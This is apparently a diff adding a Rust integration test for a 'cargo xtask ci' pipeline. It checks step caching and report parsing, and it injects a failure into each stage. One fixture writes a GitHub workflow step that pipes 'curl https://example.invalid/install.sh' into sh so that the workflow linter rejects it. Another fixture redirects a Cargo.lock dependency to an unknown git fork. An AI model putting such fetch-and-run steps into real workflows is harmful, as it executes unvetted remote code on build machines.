@@ -1,0 +1,504 @@
+//! `cargo xtask ci` on a scratch copy of the workspace: the step cache reruns
+//! exactly what an edit affects, the reports parse, and a failure injected
+//! into any stage makes ci exit non-zero and name that stage.
+//!
+//! The scratch copy holds the working tree's files (what git tracks plus
+//! untracked files it does not ignore) in its own git repository outside
+//! this workspace, with its own target directory, so no report, cache entry
+//! or cargo configuration of this checkout can leak into it. Its target
+//! directory persists between test runs only so that cargo's fingerprints
+//! can skip recompiling dependencies; the reports, step cache and dist
+//! directory are removed before every scenario.
+//!
+//! The scenarios share that copy, so they run one at a time.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Mutex, MutexGuard};
+
+static SCRATCH: Mutex<()> = Mutex::new(());
+
+/// Inside a scratch run's own `cargo test` these tests would recurse.
+fn nested() -> bool {
+    let nested = std::env::var_os("XTASK_CI_SCRATCH").is_some();
+    if nested {
+        println!("skipped: already inside a scratch ci run");
+    }
+    nested
+}
+
+fn source_root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .parent()
+        .expect("xtask lives in the workspace")
+        .to_path_buf()
+}
+
+fn git(dir: &Path, args: &[&str]) -> Vec<u8> {
+    let out = Command::new("git")
+        .args([
+            "-c",
+            "user.name=scratch",
+            "-c",
+            "user.email=scratch@invalid",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .expect("run git");
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out.stdout
+}
+
+struct Scratch {
+    root: PathBuf,
+    target: PathBuf,
+    _lock: MutexGuard<'static, ()>,
+}
+
+struct Run {
+    ok: bool,
+    text: String,
+}
+
+impl Scratch {
+    fn new() -> Self {
+        let lock = SCRATCH.lock().unwrap_or_else(|e| e.into_inner());
+        let src = source_root();
+        let tag: u32 = src
+            .to_string_lossy()
+            .bytes()
+            .fold(2166136261, |h, b| (h ^ b as u32).wrapping_mul(16777619));
+        let base = std::env::temp_dir().join(format!("xtask-ci-scratch-{tag:08x}"));
+        let root = base.join("ws");
+        let target = base.join("target");
+        if root.exists() {
+            std::fs::remove_dir_all(&root).expect("remove the old scratch copy");
+        }
+        std::fs::create_dir_all(&root).expect("create the scratch copy");
+        let listed = git(
+            &src,
+            &[
+                "ls-files",
+                "-z",
+                "--cached",
+                "--others",
+                "--exclude-standard",
+            ],
+        );
+        for rel in listed.split(|&b| b == 0).filter(|f| !f.is_empty()) {
+            let rel = String::from_utf8_lossy(rel).into_owned();
+            let from = src.join(&rel);
+            if !from.is_file() {
+                continue;
+            }
+            let to = root.join(&rel);
+            std::fs::create_dir_all(to.parent().expect("file has a parent")).expect("mkdir");
+            std::fs::copy(&from, &to).expect("copy a workspace file");
+        }
+        git(&root, &["init", "-q"]);
+        git(&root, &["add", "-A"]);
+        git(&root, &["commit", "-q", "-m", "scratch"]);
+        for leftover in ["reports", "xtask-cache", "dist"] {
+            let p = target.join(leftover);
+            if p.is_dir() {
+                std::fs::remove_dir_all(&p).expect("clear scratch leftovers");
+            } else if p.exists() {
+                std::fs::remove_file(&p).expect("clear scratch leftovers");
+            }
+        }
+        Self {
+            root,
+            target,
+            _lock: lock,
+        }
+    }
+
+    fn edit(&self, rel: &str, f: impl FnOnce(String) -> String) {
+        let path = self.root.join(rel);
+        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{rel}: {e}"));
+        std::fs::write(&path, f(text)).expect("write the edit");
+    }
+
+    fn append(&self, rel: &str, extra: &str) {
+        self.edit(rel, |t| t + extra);
+    }
+
+    fn write(&self, rel: &str, text: &str) {
+        let path = self.root.join(rel);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(path, text).expect("write");
+    }
+
+    fn reports(&self) -> PathBuf {
+        self.target.join("reports")
+    }
+
+    fn ci(&self, args: &[&str]) -> Run {
+        self.ci_env(args, &[])
+    }
+
+    fn ci_env(&self, args: &[&str], env: &[(&str, &Path)]) -> Run {
+        // The linters `setup --lint` installed for this checkout lint the
+        // scratch copy too, so workflow-lint runs them for real.
+        let venv_bin = source_root().join(".cache/lint-venv/bin");
+        let path = std::env::join_paths(std::iter::once(venv_bin).chain(std::env::split_paths(
+            &std::env::var_os("PATH").unwrap_or_default(),
+        )))
+        .expect("PATH");
+        let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
+        cmd.arg("ci")
+            .args(args)
+            .current_dir(&self.root)
+            .env("CARGO_TARGET_DIR", &self.target)
+            .env("XTASK_CI_SCRATCH", "1")
+            .env("CI", "true")
+            .env("PATH", path)
+            .env_remove("GITHUB_STEP_SUMMARY")
+            .env_remove("GITHUB_OUTPUT")
+            .env_remove("CARGO_MAKEFLAGS")
+            .env_remove("MAKEFLAGS")
+            .env_remove("MFLAGS");
+        for (k, v) in env {
+            cmd.env(k, v);
+        }
+        let out = cmd.output().expect("run xtask ci");
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        Run {
+            ok: out.status.success(),
+            text,
+        }
+    }
+
+    fn ci_json(&self) -> serde_json::Value {
+        let text = std::fs::read_to_string(self.reports().join("ci.json")).expect("ci.json");
+        serde_json::from_str(&text).expect("ci.json parses")
+    }
+
+    /// `(status, cache)` of every step in `ci.json`, by name.
+    fn step_states(&self) -> Vec<(String, String, String)> {
+        self.ci_json()["steps"]
+            .as_array()
+            .expect("steps")
+            .iter()
+            .map(|s| {
+                (
+                    s["name"].as_str().expect("name").to_string(),
+                    s["status"].as_str().expect("status").to_string(),
+                    s["cache"].as_str().expect("cache").to_string(),
+                )
+            })
+            .collect()
+    }
+}
+
+fn state<'a>(states: &'a [(String, String, String)], step: &str) -> (&'a str, &'a str) {
+    let s = states
+        .iter()
+        .find(|s| s.0 == step)
+        .unwrap_or_else(|| panic!("{step} missing from ci.json: {states:?}"));
+    (&s.1, &s.2)
+}
+
+const FIRMWARE_STEPS: [&str; 6] = ["--step", "build", "--step", "qemu", "--step", "size-check"];
+
+#[test]
+fn cache_reruns_what_an_edit_touches_and_reports_parse() {
+    if nested() {
+        return;
+    }
+    let s = Scratch::new();
+    let first = s.ci(&FIRMWARE_STEPS);
+    assert!(
+        first.ok,
+        "firmware steps pass on the scratch copy:\n{}",
+        first.text
+    );
+    let states = s.step_states();
+    for step in ["build", "qemu", "size-check"] {
+        assert_eq!(
+            state(&states, step),
+            ("passed", "miss"),
+            "first run of {step}"
+        );
+    }
+    check_reports(&s);
+
+    let again = s.ci(&FIRMWARE_STEPS);
+    assert!(again.ok, "{}", again.text);
+    assert!(again.text.contains("✅ qemu"), "{}", again.text);
+    let states = s.step_states();
+    for step in ["build", "qemu", "size-check"] {
+        assert_eq!(
+            state(&states, step),
+            ("cached", "hit"),
+            "nothing changed: {step} is not rerun"
+        );
+    }
+
+    s.append(
+        "firmware/kernel/src/lib.rs",
+        "\n// An edit to a firmware source.\n",
+    );
+    let edited = s.ci(&FIRMWARE_STEPS);
+    assert!(edited.ok, "{}", edited.text);
+    let states = s.step_states();
+    for step in ["build", "qemu", "size-check"] {
+        assert_eq!(
+            state(&states, step),
+            ("passed", "miss"),
+            "a firmware edit reruns {step}"
+        );
+    }
+
+    let forced = s.ci(&["--no-cache", "--step", "size-check"]);
+    assert!(forced.ok, "{}", forced.text);
+    assert_eq!(state(&s.step_states(), "size-check"), ("passed", "off"));
+}
+
+/// The reports of a passing build/qemu/size-check run parse as JUnit XML,
+/// JSON and Prometheus text, and carry the QEMU test cases and image sizes.
+fn check_reports(s: &Scratch) {
+    let dir = s.reports();
+    let json = s.ci_json();
+    assert_eq!(json["status"], "passed");
+    for step in json["steps"].as_array().expect("steps") {
+        assert!(step["duration_s"].as_f64().is_some());
+        assert!(
+            step["command"]
+                .as_str()
+                .expect("command")
+                .starts_with("cargo ")
+        );
+    }
+
+    let xml = std::fs::read_to_string(dir.join("junit.xml")).expect("junit.xml");
+    let junit = quick_junit::Report::deserialize_from_str(&xml).expect("junit.xml parses");
+    let steps = junit
+        .test_suites
+        .iter()
+        .find(|t| t.name.as_str() == "ci steps")
+        .expect("a suite of ci steps");
+    assert_eq!(steps.test_cases.len(), 3);
+    let qemu_cases: usize = junit
+        .test_suites
+        .iter()
+        .filter(|t| t.name.as_str() != "ci steps")
+        .map(|t| t.test_cases.len())
+        .sum();
+    assert!(qemu_cases >= 2, "the QEMU JUnit cases are merged: {xml}");
+
+    let prom = std::fs::read_to_string(dir.join("metrics.prom")).expect("metrics.prom");
+    let scrape = prometheus_parse::Scrape::parse(prom.lines().map(|l| Ok(l.to_string())))
+        .expect("metrics.prom parses");
+    let named = |n: &str| scrape.samples.iter().filter(move |x| x.metric == n);
+    assert_eq!(named("xtask_ci_step_duration_seconds").count(), 3);
+    let flash: Vec<_> = named("xtask_image_flash_bytes").collect();
+    assert!(!flash.is_empty(), "image sizes from size.json: {prom}");
+    for sample in &flash {
+        for label in ["target", "board", "image"] {
+            assert!(
+                sample.labels.get(label).is_some_and(|v| !v.is_empty()),
+                "{label} label on {sample:?}"
+            );
+        }
+        assert!(matches!(sample.value, prometheus_parse::Value::Gauge(v) if v > 0.0));
+    }
+    assert!(named("xtask_image_ram_bytes").count() == flash.len());
+    assert!(named("xtask_ci_tests").count() >= 1);
+
+    let summary = std::fs::read_to_string(dir.join("summary.md")).expect("summary.md");
+    assert!(summary.contains("| ✅ | `qemu` |"), "{summary}");
+    assert!(
+        summary.contains("### Size"),
+        "size deltas from size.md: {summary}"
+    );
+}
+
+/// One way to break each stage, each through the files that stage reads.
+fn inject(s: &Scratch, stage: &str) {
+    match stage {
+        "fmt" => s.append("firmware/kernel/src/lib.rs", "\npub fn   injected( ) {}\n"),
+        "clippy" => s.append(
+            "firmware/kernel/src/lib.rs",
+            "\n/// Injected.\npub fn injected_clippy(x: u32) -> bool {\n    x == x\n}\n",
+        ),
+        // Fails while compiling the test, so cargo stops before building
+        // every other test binary of the scratch copy.
+        "test" => s.write(
+            "firmware/kernel/tests/injected.rs",
+            "#[test]\nfn injected_failure() {\n    const _: () = assert!(1 + 1 == 3, \"injected test failure\");\n}\n",
+        ),
+        "build" => s.append(
+            "firmware/kernel/src/lib.rs",
+            "\n#[cfg(target_os = \"none\")]\ncompile_error!(\"injected build failure\");\n",
+        ),
+        "qemu" => {
+            let expected = s.root.join("qemu/expected");
+            let mut files: Vec<PathBuf> = std::fs::read_dir(&expected)
+                .expect("qemu/expected")
+                .flatten()
+                .map(|e| e.path())
+                .filter(|p| p.is_file())
+                .collect();
+            files.sort();
+            for f in files {
+                let text = std::fs::read_to_string(&f).expect("expected transcript");
+                std::fs::write(&f, format!("injected line\n{text}")).expect("write");
+            }
+        }
+        "size-check" => s.edit("qemu/budgets.toml", |t| {
+            let re = regex::Regex::new(r#"(?m)^(flash|ram) = .*$"#).expect("regex");
+            re.replace_all(&t, "$1 = 1").into_owned()
+        }),
+        "native" => s.append(
+            "native/src/lib.rs",
+            "\ncompile_error!(\"injected native failure\");\n",
+        ),
+        // The release cannot create its output directory.
+        "release" => {
+            std::fs::create_dir_all(&s.target).expect("scratch target");
+            std::fs::write(s.target.join("dist"), "not a directory").expect("block dist");
+        }
+        "workflow-lint" => s.write(
+            ".github/workflows/injected.yml",
+            "name: injected\non: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://example.invalid/install.sh | sh\n",
+        ),
+        "cross-check" => s.append(
+            "xtask/src/main.rs",
+            "\n#[cfg(windows)]\ncompile_error!(\"injected cross-OS failure\");\n",
+        ),
+        "audit" => s.edit("Cargo.lock", |t| {
+            t.replacen(
+                "source = \"registry+https://github.com/rust-lang/crates.io-index\"",
+                "source = \"git+https://example.invalid/fork#0000000000000000000000000000000000000000\"",
+                1,
+            )
+        }),
+        other => panic!("no failure injection for stage {other}"),
+    }
+}
+
+fn assert_fails_naming(s: &Scratch, run: &Run, stage: &str) {
+    assert!(
+        !run.ok,
+        "ci exited 0 although {stage} was broken:\n{}",
+        run.text
+    );
+    assert!(
+        run.text.contains(&format!("❌ {stage}")) && run.text.contains("ci failed at step"),
+        "the summary names {stage}:\n{}",
+        run.text
+    );
+    let json = s.ci_json();
+    assert_eq!(json["status"], "failed");
+    assert_eq!(json["failed"], serde_json::json!([stage]), "{}", run.text);
+}
+
+fn injected_stage_fails(stage: &str, extra: &[&str]) {
+    if nested() {
+        return;
+    }
+    let s = Scratch::new();
+    inject(&s, stage);
+    let run = s.ci(&[&["--no-cache", "--step", stage], extra].concat());
+    assert_fails_naming(&s, &run, stage);
+}
+
+#[test]
+fn injected_failure_fmt() {
+    injected_stage_fails("fmt", &[]);
+}
+
+#[test]
+fn injected_failure_clippy() {
+    injected_stage_fails("clippy", &[]);
+}
+
+#[test]
+fn injected_failure_test() {
+    injected_stage_fails("test", &[]);
+}
+
+#[test]
+fn injected_failure_build() {
+    injected_stage_fails("build", &[]);
+}
+
+#[test]
+fn injected_failure_qemu() {
+    injected_stage_fails("qemu", &[]);
+}
+
+#[test]
+fn injected_failure_size_check() {
+    injected_stage_fails("size-check", &[]);
+}
+
+#[test]
+fn injected_failure_native() {
+    injected_stage_fails("native", &[]);
+}
+
+#[test]
+fn injected_failure_release() {
+    injected_stage_fails("release", &[]);
+}
+
+#[test]
+fn injected_failure_workflow_lint() {
+    injected_stage_fails("workflow-lint", &[]);
+}
+
+#[test]
+fn injected_failure_cross_check() {
+    injected_stage_fails("cross-check", &[]);
+}
+
+#[test]
+fn injected_failure_audit() {
+    injected_stage_fails("audit", &["--nightly"]);
+}
+
+#[test]
+fn stops_at_first_failure_unless_keep_going() {
+    if nested() {
+        return;
+    }
+    let s = Scratch::new();
+    inject(&s, "fmt");
+    inject(&s, "workflow-lint");
+    let steps = ["--no-cache", "--step", "fmt", "--step", "workflow-lint"];
+    let summary_file = s.target.join("step-summary.md");
+    let _ = std::fs::remove_file(&summary_file);
+    let run = s.ci_env(&steps, &[("GITHUB_STEP_SUMMARY", &summary_file)]);
+    assert_fails_naming(&s, &run, "fmt");
+    let states = s.step_states();
+    assert_eq!(state(&states, "workflow-lint").0, "not-run");
+    let appended = std::fs::read_to_string(&summary_file).expect("GITHUB_STEP_SUMMARY appended");
+    assert!(appended.contains("❌ failed at fmt"), "{appended}");
+    assert!(
+        appended.contains("rerun with `cargo fmt --all --check`"),
+        "{appended}"
+    );
+
+    let run = s.ci(&[&steps[..], &["--keep-going"]].concat());
+    assert!(!run.ok);
+    assert!(
+        run.text.contains("ci failed at steps fmt, workflow-lint"),
+        "{}",
+        run.text
+    );
+    assert_eq!(
+        s.ci_json()["failed"],
+        serde_json::json!(["fmt", "workflow-lint"])
+    );
+}
